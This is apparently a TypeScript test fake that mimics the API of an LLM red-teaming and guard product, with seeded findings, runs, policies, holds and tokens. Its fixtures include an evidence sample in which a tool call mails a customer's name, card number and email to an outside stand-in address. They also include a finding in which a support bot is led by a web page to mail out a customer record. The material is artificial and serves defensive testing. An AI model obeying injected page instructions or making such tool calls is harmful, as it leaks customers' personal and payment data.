import { z } from 'zod'
import { ROLES, type Role } from '../../../packages/pavise/src/core/access/permissions.js'
import { ASSET_FIELDS, ATTEMPT_FIELDS, EVENT_FIELDS, FINDING_FIELDS, RUN_FIELDS } from '../../../packages/pavise/src/core/query/fields.js'
import { parseQuery } from '../../../packages/pavise/src/core/query/parse-query.js'
import type { QueryField, QueryTerm } from '../../../packages/pavise/src/core/query/query.js'
import { type FindingChange, type FindingRow, findingChangeSchema } from '../../../packages/pavise/src/core/records/finding.js'
import type { Me } from '../../../packages/pavise/src/core/records/identity.js'
import type { Overview } from '../../../packages/pavise/src/core/records/overview.js'
import { SETTING_KEYS, settingsSchema, settingValue } from '../../../packages/pavise/src/core/settings.js'
import { ago, detailOf, idOf, NOW, seedFindings } from './seed-findings.js'
import { EVENTS, HOLDS, POLICIES } from './seed-guard.js'
import { ASSETS, ATTEMPTS, attemptDetail, MATRIX, RUNS } from './seed-runs.js'

/** What a test asks of the fake: states that a real server reaches only by luck. */
export interface FakeOptions {
  readonly role?: Role
  readonly findings?: number
  /** Nothing is there yet. */
  readonly empty?: boolean
  readonly signedOut?: boolean
  /** Paths that answer with a problem, by how they start. */
  readonly fail?: Readonly<Record<string, { status: number; code: string; message: string; hint?: string }>>
  /** Paths that never answer. */
  readonly hang?: readonly string[]
}

export interface Ask {
  readonly method: string
  readonly path: string
  readonly search: URLSearchParams
  readonly body: unknown
  readonly version: number | undefined
}

export class FakeProblem extends Error {
  constructor(
    readonly status: number,
    readonly code: string,
    message: string,
    readonly hint = '',
  ) {
    super(message)
  }
}

const refs = ASSETS.map(({ id, name, kind }) => ({ id, name, kind }))
const VALUES: Readonly<Record<string, (row: never) => unknown>> = {
  tag: (row: FindingRow) => row.taxonomy,
  asset: (row: { asset?: { name: string } }) => row.asset?.name,
  answered: (row: FindingRow) => row.answeredBy.length > 0,
  first: (row: FindingRow) => row.firstSeen,
  last: (row: FindingRow) => row.lastSeen,
}
const LADDER = ['info', 'low', 'medium', 'high', 'critical']

/** The API in memory, with the rows of the records and the grammar of the product. */
export class FakeApi {
  findings: FindingRow[]
  preferences: unknown = {}
  holds = [...HOLDS]
  readonly asked: Ask[] = []

  constructor(readonly options: FakeOptions = {}) {
    this.findings = options.empty ? [] : seedFindings(options.findings ?? 1284, refs)
  }

  me(): Me {
    const role = this.options.role ?? 'admin'
    return {
      user: {
        id: idOf('mira'),
        handle: 'mira',
        name: 'Mira',
        role,
        password: true,
        oidc: false,
        disabled: false,
        created: ago(2000),
        version: 1,
      },
      permissions: [...ROLES[role].may],
      csrf: 'fake',
      project: 'support-bot',
      version: '0.1.0',
    }
  }

  answer(ask: Ask): unknown {
    this.asked.push(ask)
    const failing = Object.entries(this.options.fail ?? {}).find(([path]) => ask.path.startsWith(path))?.[1]
    if (failing) throw new FakeProblem(failing.status, failing.code, failing.message, failing.hint)
    if (this.options.signedOut && !ask.path.startsWith('/auth/')) throw new FakeProblem(401, 'PAV_AUTH_NEEDED', 'Nobody is signed in.')
    const [, head = '', id = '', tail = '', last = ''] = ask.path.split('/')
    const route = `${ask.method} ${head}${id ? (Number.isNaN(Number(id)) && !/-/.test(id) ? ` ${id}` : ' :id') : ''}${tail ? ` ${tail}` : ''}`
    switch (route) {
      case 'GET auth methods':
        return { password: true, oidc: { name: 'the company' } }
      case 'POST auth link':
      case 'POST auth password':
        if ((ask.body as { password?: string }).password === 'wrong')
          throw new FakeProblem(
            401,
            'PAV_AUTH_REFUSED',
            'Handle and password do not belong together.',
            'After 10 tries the account rests for 15 minutes.',
          )
        return this.me()
      case 'POST auth sign-out':
        return {}
      case 'GET me':
        return this.me()
      case 'GET me preferences':
        return this.preferences
      case 'PUT me preferences':
        this.preferences = ask.body
        return ask.body
      case 'GET overview':
        return this.overview()
      case 'GET findings':
        return this.page(ask, this.sorted(this.matching(this.findings, ask.search.get('q') ?? '', FINDING_FIELDS), ask.search.get('sort')))
      case 'GET findings fields':
        return fieldsOf(FINDING_FIELDS)
      case 'POST findings counts':
        return (ask.body as { queries: string[] }).queries.map((q) => this.matching(this.findings, q, FINDING_FIELDS).length)
      case 'POST findings bulk':
        return this.bulk(ask.body as { numbers?: number[]; q?: string; change: FindingChange })
      case 'GET findings :id':
        return detailOf(this.finding(id))
      case 'PATCH findings :id':
        return this.change(this.finding(id), ask)
      case 'POST findings :id reveal':
        return {
          evidence: [
            {
              kind: 'tool_call',
              text: '{ "to": "audit@collect.example", "body": "Name Ada Example, card 4000 0000 0000 4417, mail ada@mail.example" }',
            },
          ],
        }
      case 'GET runs':
        return this.page(ask, this.options.empty ? [] : this.matching(RUNS, ask.search.get('q') ?? '', RUN_FIELDS))
      case 'GET attempts fields':
        return fieldsOf(ATTEMPT_FIELDS)
      case 'GET runs fields':
        return fieldsOf(RUN_FIELDS)
      case 'POST runs estimate':
        return { requests: 1260, seconds: 190 }
      case 'POST runs':
        return RUNS[0]
      case 'GET runs :id':
        return found(RUNS.find((run) => run.id === id))
      case 'POST runs :id cancel':
        return { ...found(RUNS.find((run) => run.id === id)), state: 'cancelling' }
      case 'GET runs :id matrix':
        return MATRIX
      case 'GET runs :id attempts':
        if (last) return attemptDetail(found(ATTEMPTS.find((attempt) => attempt.id === ask.path.split('/')[5])))
        return this.page(
          ask,
          this.matching(ATTEMPTS, ask.search.get('q') ?? '', ATTEMPT_FIELDS).filter((row) =>
            ['', null, row.phase].includes(ask.search.get('phase')),
          ),
        )
      case 'GET runs :id policy':
        return { text: POLICIES[0]?.text }
      case 'GET runs :id dry-run':
        return {
          exchanges: 1842,
          changed: 45,
          unreadable: 3,
          actions: [
            { from: 'allow', to: 'block', count: 31 },
            { from: 'flag', to: 'block', count: 14 },
          ],
          examples: EVENTS.slice(0, 5).map((event) => ({
            event: event.id,
            time: event.time,
            from: 'allow',
            to: 'block',
            rules: ['injection'],
          })),
        }
      case 'GET assets':
        return this.page(ask, this.options.empty ? [] : this.matching(ASSETS, ask.search.get('q') ?? '', ASSET_FIELDS))
      case 'GET assets fields':
        return fieldsOf(ASSET_FIELDS)
      case 'GET assets :id':
        return found(ASSETS.find((asset) => asset.id === id))
      default:
        return this.rest(route, id, ask)
    }
  }

  private rest(route: string, id: string, ask: Ask): unknown {
    const empty = this.options.empty
    switch (route) {
      case 'GET asset-kinds':
        return [
          {
            id: 'endpoint',
            title: 'LLM application',
            built: true,
            schema: {
              type: 'object',
              required: ['url', 'api'],
              properties: {
                url: { type: 'string', format: 'uri', description: 'Where it answers' },
                api: { enum: ['chat', 'responses', 'messages'], description: 'The API that it speaks' },
                key: { type: 'string', description: 'env:NAME, never the key itself' },
              },
            },
          },
          { id: 'model', title: 'Model files', built: false, schema: { type: 'object', properties: {} } },
        ]
      case 'GET events':
        return this.page(ask, empty ? [] : this.matching(EVENTS, ask.search.get('q') ?? '', EVENT_FIELDS))
      case 'GET events fields':
        return fieldsOf(EVENT_FIELDS)
      case 'GET events rates':
        return Array.from({ length: 60 }, (_, at) => ({
          time: new Date(NOW - (60 - at) * 60_000).toISOString(),
          counts: {
            allow: 20 + ((at * 7) % 13),
            block: at > 40 && at < 48 ? 6 : 0,
            mask: at % 4,
            flag: at % 2,
            hold: at % 9 === 0 ? 1 : 0,
          },
        }))
      case 'GET events :id':
        return found(EVENTS.find((event) => event.id === id))
      case 'GET holds':
        return this.page(ask, empty ? [] : this.holds)
      case 'POST holds :id':
        this.holds = this.holds.filter((hold) => hold.event !== id)
        return { ...HOLDS[0], state: (ask.body as { answer: string }).answer === 'allow' ? 'allowed' : 'blocked', answeredBy: 'mira' }
      case 'GET policies':
        return this.page(ask, empty ? [] : POLICIES.map(({ text: _text, ...row }) => row))
      case 'GET policies current':
        if (empty) throw new FakeProblem(404, 'PAV_NOT_FOUND', 'There is no policy yet.')
        return POLICIES[0]
      case 'GET policies :id':
        return found(POLICIES.find((policy) => policy.number === Number(id)))
      case 'POST policies check':
        return (ask.body as { text: string }).text.includes('do: blok')
          ? {
              valid: false,
              faults: [
                { path: 'rules.0.do', line: 8, message: 'is none of allow, flag, mask, redact, hold, block', hint: 'did you mean block?' },
              ],
            }
          : { valid: true, faults: [], version: 'sha256:77aa01', rules: 3 }
      case 'POST policies diff':
        return {
          unified:
            '--- v3\n+++ candidate\n@@ -7,3 +7,3 @@\n rules:\n-  - { id: injection, fpr: 0.01 }\n+  - { id: injection, fpr: 0.02 }\n',
          rules: [{ id: 'injection', change: 'changed', before: 'fpr: 0.01', after: 'fpr: 0.02' }],
        }
      case 'POST policies':
      case 'POST policies :id rollback':
        return { ...POLICIES[0], number: 4 }
      case 'POST policies dry-run':
        return { run: idOf('run 4') }
      case 'GET ledger':
        return this.page(ask, empty ? [] : Array.from({ length: 120 }, (_, at) => ledgerRow(119 - at)))
      case 'GET ledger checkpoint':
        return {
          note: 'pavise/support-bot\n120\nq83vEjRWeJq83vEjRWeJq83vEjRWeJq83vEjRWeJq80=\n\n— pavise/support-bot AbCdEf0123',
          publicKey: 'pavise/support-bot+1a2b3c4d+AbCd',
          size: 120,
        }
      case 'POST ledger verify':
        return { run: idOf('run 4') }
      case 'GET ledger :id':
        return { ...ledgerRow(Number(id)), body: { note: 'made up' } }
      case 'GET ledger :id proof':
        return {
          schema: 'pavise.proof/1',
          index: Number(id),
          leaf: 'ab'.repeat(32),
          hashes: ['cd'.repeat(32), 'ef'.repeat(32)],
          checkpoint: 'pavise/support-bot\n120\n…',
        }
      case 'GET schedules':
        return {
          items: empty
            ? []
            : [
                {
                  id: idOf('schedule 1'),
                  name: 'nightly',
                  run: { kind: 'attack', asset: ASSETS[0]?.id },
                  cron: '0 3 * * *',
                  enabled: true,
                  by: 'mira',
                  created: ago(400),
                  source: 'console',
                  lastRun: idOf('run 1'),
                  next: new Date(NOW + 9e7).toISOString(),
                  version: 1,
                },
              ],
          total: { count: 1, exact: true },
        }
      case 'GET users':
        return {
          items: [
            this.me().user,
            { ...this.me().user, id: idOf('juno'), handle: 'juno', name: 'Juno', role: 'red_team' as const, lastSeen: ago(3) },
          ],
          total: { count: 2, exact: true },
        }
      case 'POST users :id link':
        return { url: 'http://127.0.0.1:8600/sign-in#made-up', expires: new Date(NOW + 600_000).toISOString() }
      case 'GET roles':
        return Object.entries(ROLES).map(([role, { title, may }]) => ({
          id: role,
          title,
          permissions: may.map((permission) => ({ id: permission, title: permission })),
        }))
      case 'GET tokens':
        return {
          items: [
            {
              id: idOf('token'),
              name: 'ci',
              hint: 'pav_7c2f',
              user: 'mira',
              scopes: ['run:read', 'run:start'],
              created: ago(300),
              lastUsed: ago(2),
              revoked: false,
            },
          ],
          total: { count: 1, exact: true },
        }
      case 'POST tokens':
        return {
          token: 'pav_made-up-token-shown-once',
          row: { id: idOf('token 2'), name: 'ci', hint: 'pav_made', user: 'mira', scopes: ['run:read'], created: ago(0), revoked: false },
        }
      case 'GET gateway-keys':
        return {
          items: [
            {
              id: idOf('key'),
              name: 'support-web',
              hint: 'pv_3f',
              tenant: 'north',
              by: 'mira',
              created: ago(300),
              lastUsed: ago(0.1),
              revoked: false,
            },
          ],
          total: { count: 1, exact: true },
        }
      case 'POST gateway-keys':
        return {
          key: 'pv_made-up-key-shown-once',
          row: { id: idOf('key 2'), name: 'web', hint: 'pv_ma', by: 'mira', created: ago(0), revoked: false },
        }
      case 'GET gateway':
        return {
          running: true,
          listen: 'http://127.0.0.1:8400',
          upstreams: ['model'],
          mode: 'enforce',
          policy: { number: 3, version: POLICIES[0]?.version },
        }
      case 'GET settings':
        return SETTING_KEYS.map((key) => ({
          key,
          title: settingsSchema.shape[key].description ?? key,
          value: settingValue(key, undefined),
          schema: z.toJSONSchema(settingsSchema.shape[key], { io: 'input' }),
        }))
      case 'GET jobs':
        return empty ? [] : [{ run: RUNS[0]?.id, title: 'attack on bot', progress: RUNS[0]?.progress, state: 'running' }]
      case 'GET search':
        return {
          hits: this.findings.slice(0, 3).map((row) => ({
            kind: 'finding',
            id: String(row.number),
            title: row.title,
            detail: row.asset.name,
            link: `findings/F-${row.number}`,
          })),
        }
      default:
        if (ask.method === 'DELETE') return undefined
        throw new FakeProblem(404, 'PAV_NOT_FOUND', `The fake has no ${route}.`)
    }
  }

  private overview(): Overview {
    const none = this.options.empty === true
    const stage = (name: Overview['loop'][number]['stage'], value: string, note: string, tone: Overview['loop'][number]['tone']) => ({
      stage: name,
      value: none ? '0' : value,
      note: none ? 'nothing yet' : note,
      tone: none ? ('plain' as const) : tone,
    })
    return {
      loop: [
        stage('assets', '4', '1 never checked', 'unsure'),
        stage('findings', '41', '2 critical, 7 high', 'hit'),
        stage('rules', '26', '25 proven by a probe', 'miss'),
        stage('policy', 'enforce', '29 of 30 benign tasks', 'miss'),
        stage('decisions', '1.92 M', '0.9% blocked', 'plain'),
        stage('holds', '1', 'waits 4 m', 'hold'),
        stage('ledger', '48,211', 'sealed', 'miss'),
      ],
      needs: none
        ? []
        : [
            {
              kind: 'hold',
              title: 'A tool call waits for approval: mail.send to an outside host',
              detail: 'no-exfil, support-web',
              severity: 'high',
              due: new Date(NOW + 240_000).toISOString(),
              link: 'firewall?tab=holds',
              action: 'Decide',
            },
            {
              kind: 'finding',
              title: 'Bot mails a customer record, told by a page',
              detail: 'redteam.mail-out.document, bot',
              severity: 'critical',
              link: 'findings/F-1284',
              action: 'Triage',
            },
            {
              kind: 'run',
              title: 'Attack on bot stopped: the target refused the connection',
              detail: '212 of 1,260 attempts are kept',
              severity: 'medium',
              link: `runs/${idOf('run 2')}`,
              action: 'Run again',
            },
            { kind: 'asset', title: 'billing-tool was never checked', detail: 'mcp', severity: 'low', link: 'assets', action: 'Check' },
          ],
      posture: none
        ? []
        : [23, 21, 22.4, 21.2, 23, 8.1, 7.9, 7.2, 7.4, 3.5, 3.1, 3, 0.7].map((rate, at) => ({
            run: idOf(`run ${13 - at}`),
            time: ago((13 - at) * 24),
            phase: at > 4 ? 'after' : 'before',
            attempts: 1260,
            successes: Math.round(rate * 12.3),
            inconclusive: 28,
            rate: rate / 100,
            low: Math.max(0, rate / 100 - 0.02),
            high: rate / 100 + 0.022,
            worst: rate / 100 + 0.022,
          })),
      notLookedAt: none
        ? []
        : [
            { what: 'documents', why: 'longer than the budget of the guard', count: 406 },
            { what: 'attempts', why: 'no verdict', count: 28 },
          ],
      health: { database: true, worker: true, gateway: true, ledger: { size: none ? 1 : 48211, sealed: true }, eventsBehind: 0 },
    }
  }

  private finding(id: string): FindingRow {
    return found(this.findings.find((row) => row.number === Number(id)))
  }

  private change(row: FindingRow, ask: Ask): FindingRow {
    const change = findingChangeSchema.parse(ask.body)
    if (ask.version === undefined) throw new FakeProblem(428, 'PAV_PRECONDITION', 'A change wants If-Match.')
    if (ask.version !== row.version)
      throw new FakeProblem(409, 'PAV_CONFLICT', 'Somebody else changed it since.', 'Look at it again, then change it.')
    return this.put(row, change)
  }

  private put(row: FindingRow, { owner, ...change }: FindingChange): FindingRow {
    const { owner: _before, ...rest } = row
    const kept = owner === undefined ? row.owner : (owner ?? undefined)
    const next = { ...rest, ...(kept ? { owner: kept } : {}), ...change, version: row.version + 1 } as FindingRow
    this.findings = this.findings.map((one) => (one.number === row.number ? next : one))
    return next
  }

  private bulk({ numbers, q, change }: { numbers?: number[]; q?: string; change: FindingChange }): { changed: number } {
    const asked = findingChangeSchema.parse(change)
    const rows = numbers
      ? this.findings.filter((row) => numbers.includes(row.number))
      : this.matching(this.findings, q ?? '', FINDING_FIELDS)
    for (const row of rows) this.put(row, asked)
    return { changed: rows.length }
  }

  private sorted(rows: FindingRow[], sort: string | null): FindingRow[] {
    if (!sort) return rows
    const field = sort.replace(/^-/, '')
    const key = (row: FindingRow): number =>
      field === 'severity' ? LADDER.indexOf(row.severity) : field === 'last' ? Date.parse(row.lastSeen) : row.number
    return [...rows].sort((one, other) => (key(one) - key(other)) * (sort.startsWith('-') ? -1 : 1))
  }

  private matching<Row extends object>(rows: readonly Row[], q: string, fields: readonly QueryField[]): Row[] {
    const { query, faults } = parseQuery(q, fields, { now: new Date(NOW), me: 'mira' })
    if (faults[0]) throw new FakeProblem(400, 'PAV_QUERY_INVALID', `filter line: ${faults[0].message}`, faults[0].hint)
    return rows.filter((row) => query.terms.every((term) => holds(row, term) !== term.negated))
  }

  private page<Row>(ask: Ask, rows: readonly Row[]) {
    const limit = Number(ask.search.get('limit') ?? 100)
    const start = Number(ask.search.get('cursor') ?? 0)
    const next = start + limit < rows.length ? { next: String(start + limit) } : {}
    return { items: rows.slice(start, start + limit), ...next, total: { count: rows.length, exact: true } }
  }
}

function holds(row: object, term: QueryTerm): boolean {
  if (term.kind === 'text') return JSON.stringify(row).toLowerCase().includes(term.text.toLowerCase())
  const value = VALUES[term.field] ? VALUES[term.field]?.(row as never) : (row as Record<string, unknown>)[term.field]
  if (term.kind === 'absent') return value === undefined
  const values = Array.isArray(value) ? value : [value]
  return values.some((one) => term.values.some((wanted) => compares(one, term.operator, wanted)))
}

function compares(value: unknown, operator: string, wanted: unknown): boolean {
  if (operator === '=') return String(value) === String(wanted)
  if (operator === '^') return String(value).startsWith(String(wanted))
  const sizes = [value, wanted].map((one) => (typeof one === 'number' ? one : String(one))) as [string, string]
  if (operator.startsWith('>')) return operator === '>=' ? sizes[0] >= sizes[1] : sizes[0] > sizes[1]
  return operator === '<=' ? sizes[0] <= sizes[1] : sizes[0] < sizes[1]
}

function fieldsOf(fields: readonly QueryField[]) {
  return fields.map((field) => ({
    ...field,
    operators: field.type === 'word' || field.type === 'flag' ? ['='] : ['=', '<', '<=', '>', '>='],
  }))
}

function ledgerRow(index: number) {
  const type = ['finding.changed', 'policy.published', 'run.finished', 'hold.answered', 'evidence.revealed'][index % 5]
  return {
    index,
    type,
    time: ago((119 - index) * 2),
    fields: { by: 'mira', number: index + 3 },
    digest: 'ab'.repeat(32),
    forgotten: index % 19 === 0,
  }
}

function found<Row>(row: Row | undefined): Row {
  if (row === undefined)
    throw new FakeProblem(404, 'PAV_NOT_FOUND', 'There is no such thing.', 'It may have been removed. Go back to the list.')
  return row
}
